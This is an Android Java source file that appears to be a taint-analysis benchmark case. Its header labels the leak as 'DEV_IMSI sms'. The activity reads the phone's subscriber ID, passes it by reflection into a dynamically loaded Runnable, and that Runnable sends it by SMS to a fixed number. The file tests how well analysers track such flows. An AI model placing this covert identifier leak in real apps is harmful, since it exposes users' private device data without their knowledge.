// about       The field that a loaded Runnable sends is set by reflection.
// leak        DEV_IMSI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.os.Handler;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import dalvik.system.PathClassLoader;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    ClassLoader loader = new PathClassLoader(getPackageCodePath(), getClassLoader());
    try {
      Class<?> type = loader.loadClass("cn.example.flow.Job");
      Runnable job = (Runnable) type.newInstance();
      // The field that is set.
      type.getField("text").set(job, phone.getSubscriberId());
      new Handler().post(job);
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}

class Job implements Runnable {
  public String text = "no text";
  public String label = "no label";

  @Override
  public void run() {
    if (!label.isEmpty()) {
      SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
  }
}
